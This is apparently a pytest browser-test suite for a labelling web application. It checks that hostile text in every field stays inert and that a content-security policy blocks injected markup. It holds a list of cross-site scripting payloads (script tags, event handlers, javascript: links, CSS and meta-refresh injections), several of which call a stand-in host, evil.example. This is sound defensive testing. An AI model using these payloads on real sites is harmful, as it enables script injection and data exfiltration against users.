"""Hostile texts in every field, in a real browser: nothing runs, nothing is asked of another host, the page holds."""

from __future__ import annotations

from base64 import b64decode
from pathlib import Path
from typing import Any

import pytest

from labelling_site import Site, go_on
from preflab.labelling.accounts import Account, create_account, list_accounts
from preflab.labelling.assignment import next_turn
from preflab.labelling.audit import note_event
from preflab.labelling.campaign_names import free_name
from preflab.labelling.sessions import create_token
from preflab.labelling.submissions import Submission, save_draft, skip, submit
from preflab.records import Campaign, LikertAnswer
from preflab.store.database import writing
from preflab.store.images import add_image
from web_app import PASSWORD, make_campaign

pytestmark = pytest.mark.browser

RUN = "window.hacked=1;document.title='hacked';fetch('https://evil.example/run')"
ATTACKS = [
    f"<script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    "<img src=https://evil.example/pixel.png>",
    f"<svg onload={RUN}>",
    f'"><script>{RUN}</script>',
    f"'-({RUN})-'",
    f"</textarea></title></style></script><script>{RUN}</script>",
    f"[press](javascript:{RUN})",
    "![pixel](https://evil.example/pixel.png)",
    "[press](//evil.example)",
    "[out](/signout)",
    "<style>*{display:none!important;background:url(https://evil.example/css)}</style>",
    "<link rel=stylesheet href=https://evil.example/css>",
    "<iframe src=https://evil.example></iframe>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    f"{{{{ constructor.constructor(`{RUN}`)() }}}} {{% raw %}}",
    f"<details open ontoggle={RUN}>",
    f"<a href='javascript:{RUN}' id=press>press</a>",
    "\u202eright to left\u202d \u2066open isolate",
    "\x00\x01\x1b[31m control\x7f",
    "long " + "w" * 200_000,
    "word " * 40_000,
    "مرحبا " * 200,
]
ALL = "\n\n".join(ATTACKS[:19])
SHORT = f"\"><img src=x onerror={RUN}>'"
WIDE = (1280, 390)
CONTENTS = ["markdown", *(pytest.param(content, marks=pytest.mark.slow) for content in ("plain", "code", "chat"))]


def attacked(site: Site, content: str) -> tuple[Campaign, Account, Account]:
    """A campaign in which everything that a person or a model can write is hostile."""
    name = free_name(site.ws, f"{content} {SHORT}"[:190])
    campaign = make_campaign(
        site.ws,
        [[text, ATTACKS[(place + 1) % len(ATTACKS)]] for place, text in enumerate(ATTACKS)],
        prompts=[f"{content} {text[:3000]}" for text in ATTACKS],
        instructions=ALL,
        name=name,
        question=f"Which? {ALL}"[:2000],
        way="likert",
        criteria=(f"helpful {SHORT}", "honest"),
        scale_ends={"honest": (SHORT, "<b>yes</b>")},
        content=content,
        overlap=2,
        ask_note=True,
    )
    number = len(list_accounts(site.ws))
    lead = create_account(site.ws, f"Lead {number} {SHORT}", "lead", PASSWORD, email=SHORT)
    labeler = create_account(site.ws, f"Labeler {number} {SHORT}", "labeler", PASSWORD)
    create_token(site.ws, labeler.id, SHORT)
    with writing(site.ws.engine) as connection:
        note_event(connection, SHORT, SHORT, SHORT, {"old": SHORT}, {"new": ALL})
    scores = {f"helpful {SHORT}": (4, 2), "honest": (1, 5)}
    for account in (lead, labeler):
        for number in range(4):
            turn = next_turn(site.ws, campaign.id, account.labeler_id)
            assert turn is not None
            if number == 3:
                skip(site.ws, turn.task.id, account.labeler_id, ALL[:1000])
                continue
            sent = Submission(
                f"{account.id} {number}", turn.task.id, account.labeler_id, 0, LikertAnswer(scores), 9000, 9000, ALL,
                flagged=True,
            )  # fmt: skip
            submit(site.ws, sent)
    turn = next_turn(site.ws, campaign.id, labeler.labeler_id)
    assert turn is not None
    save_draft(site.ws, turn.task.id, labeler.labeler_id, {"note": SHORT, "x": ALL}, 0)
    return campaign, lead, labeler


def watched(page: Any, site: Site) -> list[str]:
    """Everything that must not happen."""
    wrong: list[str] = []
    page.on("request", lambda asked: wrong.append(asked.url) if not asked.url.startswith(site.settings.url) else None)
    page.on("dialog", lambda dialog: (wrong.append(dialog.message), dialog.dismiss()))
    page.on("pageerror", lambda error: wrong.append(str(error)))
    page.on("console", lambda said: wrong.append(said.text) if said.type in ("error", "warning") else None)
    page.on("popup", lambda other: wrong.append(f"opened {other.url}"))
    return wrong


TOO_WIDE = """() => [...document.querySelectorAll('body *')]
    .filter(one => one.getBoundingClientRect().right > innerWidth + 1 && !one.closest('.scroll, pre, table, .skip'))
    .slice(0, 4).map(one => one.tagName + '.' + one.className).join(' ')"""


def looked_over(page: Any, path: str, width: int) -> list[str]:
    """What is wrong with one page that is open."""
    wrong = []
    if page.evaluate("window.hacked") or page.title() == "hacked":
        wrong.append(f"{path}: a script ran")
    if page.locator("main").evaluate("one => getComputedStyle(one).display") == "none":
        wrong.append(f"{path}: hidden")
    foreign = page.evaluate(
        "() => [...document.querySelectorAll("
        "'script, style, iframe, object, embed, base, meta[http-equiv], [style], img')]"
        ".filter(one => !(one.tagName === 'SCRIPT' && one.src.startsWith(location.origin + '/static/')))"
        ".map(one => one.outerHTML.slice(0, 200))"
    )
    wrong += [f"{path}: {html}" for html in foreign]
    handlers = page.evaluate(
        "() => [...document.querySelectorAll('main *')].flatMap(one => [...one.attributes])"
        ".filter(each => each.name.startsWith('on') || /^\\s*(javascript|data|vbscript):/i.test(each.value))"
        ".map(each => each.name + '=' + each.value)"
    )
    wrong += [f"{path}: {each}" for each in handlers]
    overflow = page.evaluate("document.documentElement.scrollWidth")
    if overflow > width:
        wrong.append(f"{path}: {overflow} px wide on a screen of {width}: {page.evaluate(TOO_WIDE)}")
    return wrong


def pages_of(campaign: Campaign, labeler: Account) -> tuple[list[str], list[str]]:
    """Addresses for the labeler, addresses for the lead."""
    own = f"/c/{campaign.id}"
    mine = ["/", "/me", own, f"{own}/instructions", f"{own}/done", "/api/docs", f"/nowhere/{SHORT}", f"/c/{SHORT}"]
    lead = f"/lead/c/{campaign.id}"
    parts = (
        "",
        "/labelers",
        f"/labelers/{labeler.labeler_id}",
        "/adjudicate",
        "/disagreements",
        "/export",
        "/settings",
    )
    return mine, ["/lead", "/lead/new", "/lead/people", "/lead/audit", *(lead + part for part in parts)]


@pytest.mark.parametrize("content", CONTENTS)
def test_nothing_that_was_written_runs_or_calls_out(browser: Any, site: Site, content: str) -> None:
    campaign, lead, labeler = attacked(site, content)
    mine, leads = pages_of(campaign, labeler)
    wrong: list[str] = []
    for account, paths in ((labeler, mine), (lead, [*leads, *mine])):
        for width in WIDE:
            context = site.context(browser, account, viewport={"width": width, "height": 900})
            page = context.new_page()
            happened = watched(page, site)
            for path in paths:
                page.goto(path)
                if "/nowhere" not in path and SHORT not in path:
                    page.evaluate("document.querySelectorAll('details').forEach(one => one.open = true)")
                    wrong += looked_over(page, path, width)
            wrong += [each for each in happened if "404" not in each]
            context.close()
    assert not list(dict.fromkeys(wrong))


@pytest.mark.parametrize("content", CONTENTS)
def test_every_task_is_shown_inert_and_whole(browser: Any, site: Site, content: str) -> None:
    campaign, _, labeler = attacked(site, content)
    context = site.context(browser, labeler, viewport={"width": 1280, "height": 900})
    page = context.new_page()
    happened = watched(page, site)
    wrong: list[str] = []
    num_long = 0
    page.goto(f"/c/{campaign.id}/instructions")
    go_on(page, page.locator("main form button").first.click)
    for _ in ATTACKS[4:]:
        turn = next_turn(site.ws, campaign.id, labeler.labeler_id)
        assert turn is not None
        path = f"/c/{campaign.id}/t/{turn.task.id}"
        page.goto(path)
        wrong += looked_over(page, path, 1280)
        page.evaluate("document.querySelectorAll('details').forEach(one => one.open = true)")
        shown = page.locator("main").inner_text()
        for completion in turn.completions:
            long = len(completion.text) > 100_000
            num_long += long
            assert not long or len(shown) > 150_000
        for link in page.locator("main .text a[href]").all():
            assert link.get_attribute("href").startswith(("http://", "https://", "mailto:"))
            assert "noopener" in link.get_attribute("rel")
            assert "noreferrer" in link.get_attribute("rel")
        skip(site.ws, turn.task.id, labeler.labeler_id, "seen")
    assert not wrong
    assert not happened
    assert num_long >= 2
    context.close()


def test_the_policy_stops_what_would_slip_through(browser: Any, site: Site) -> None:
    """The second wall: even markup put into the page by force runs nothing and loads nothing."""
    _, _, labeler = attacked(site, "plain")
    context = site.context(browser, labeler)
    page = context.new_page()
    asked: dict[str, str] = {}
    page.on("request", lambda each: asked.update({each.url: "sent"}))
    page.on("requestfailed", lambda each: asked.update({each.url: each.failure}))
    page.goto("/me")
    asked.clear()
    page.evaluate(
        """run => {
            const main = document.querySelector('main');
            main.insertAdjacentHTML('beforeend', `<img src=x onerror="${run}"><svg onload="${run}"></svg>`
              + '<img src=https://evil.example/a.png><iframe src=https://evil.example></iframe>'
              + '<a id=press href="javascript:window.hacked=1">press</a><b style="position:fixed">x</b>');
            const script = document.createElement('script'); script.textContent = run; main.append(script);
            const other = document.createElement('script'); other.src = 'https://evil.example/x.js'; main.append(other);
        }""",
        RUN,
    )
    page.locator("#press").click()
    page.wait_for_timeout(300)
    assert not page.evaluate("window.hacked")
    assert page.locator("b[style]").evaluate("one => getComputedStyle(one).position") == "static"
    outside = {url: became for url, became in asked.items() if url.startswith("https://evil.example")}
    assert set(outside.values()) <= {"csp", "net::ERR_BLOCKED_BY_CSP"}, outside
    context.close()


PIXEL = b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")


def test_images_come_from_the_workspace_or_not_at_all(browser: Any, site: Site, tmp_path: Path) -> None:
    (tmp_path / "a.png").write_bytes(PIXEL)
    name = add_image(site.ws.path, tmp_path / "a.png")
    texts = [name, "https://evil.example/pixel.png", f"/image/{name}?https://evil.example", 'a.svg" onerror=alert(1)']
    campaign = site.campaign("ranking", [texts], content="image", name="Pictures")
    context = site.context(browser, site.labeler(campaign))
    page = context.new_page()
    happened = watched(page, site)
    page.goto(f"/c/{campaign.id}", wait_until="networkidle")
    widths = page.evaluate("[...document.images].map(one => [new URL(one.src).pathname, one.naturalWidth])")
    assert widths == [[f"/image/{name}", 1]]
    assert "https://evil.example/pixel.png" in page.locator("main").inner_text()
    assert not happened
    strange = context.request.get(f"{site.settings.url}/image/{name}")
    assert strange.headers["content-type"] == "image/png"
    assert strange.headers["x-content-type-options"] == "nosniff"
    stranger = browser.new_context(base_url=site.settings.url)
    assert stranger.request.get(f"{site.settings.url}/image/{name}", max_redirects=0).status == 303
    stranger.close()
    context.close()
